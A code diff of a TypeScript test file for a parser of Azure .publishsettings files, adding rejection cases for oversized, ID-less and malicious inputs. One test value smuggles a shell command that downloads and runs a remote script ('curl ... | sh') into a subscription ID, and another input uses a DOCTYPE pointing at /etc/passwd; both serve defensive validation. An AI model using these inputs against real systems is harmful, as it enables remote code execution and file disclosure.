@@ -1,3 +1,4 @@
+import { randomUUID } from "node:crypto";
 import { describe, expect, test } from "vitest";
 import { sequence } from "../../../src/core/asn1/write.ts";
 import { keyPair } from "../../support/key-pair.ts";
@@ -36,6 +37,9 @@ const subscription = (id: string, certificate: string, url = URL) =>
 const schema2 = (...subscriptions: readonly string[]): string =>
   `<PublishData><PublishProfile SchemaVersion="2.0" PublishMethod="AzureServiceManagementAPI">${subscriptions.join("")}</PublishProfile></PublishData>`;
 
+const subscriptions = (count: number): readonly string[] =>
+  Array.from({ length: count }, () => `<Subscription Id="${randomUUID()}" Name="" />`);
+
 describe("a .publishsettings", () => {
   test.each([
     ["in UTF-8", (text: string) => Buffer.from(text)],
@@ -63,7 +67,7 @@ describe("a .publishsettings", () => {
   });
 
   test("with a certificate that many subscriptions share is opened once", () => {
-    const many = Array.from({ length: 60 }, (_, index) => `<Subscription Id="${index}" Name="" />`);
+    const many = subscriptions(60);
     const { file } = read(schema1(many.join("<!-- > -->")));
     expect(file?.subscriptions).toHaveLength(60);
     expect(new Set(file?.subscriptions.map((one) => one.file)).size).toBe(1);
@@ -97,6 +101,21 @@ describe("what is no .publishsettings is named:", () => {
       "one with a document type further on",
       schema1('<!DOCTYPE x SYSTEM "file:///etc/passwd">'),
       "publishsettings/document-type",
+    ],
+    [
+      "one with more subscriptions than anybody has",
+      schema1(subscriptions(201).join("")),
+      "file/too-complex",
+    ],
+    [
+      "one without the ID of a subscription",
+      schema1('<Subscription Name="n" />'),
+      "publishsettings/strange-id",
+    ],
+    [
+      "one with a command in place of an ID",
+      schema1('<Subscription Id="x; curl https://x.example/a|sh #" Name="n" />'),
+      "publishsettings/strange-id",
     ],
     ["one with an entity of its own", schema1().replace("&amp;", "&a;"), "file/malformed"],
   ])("%s", (_, text, code) => {
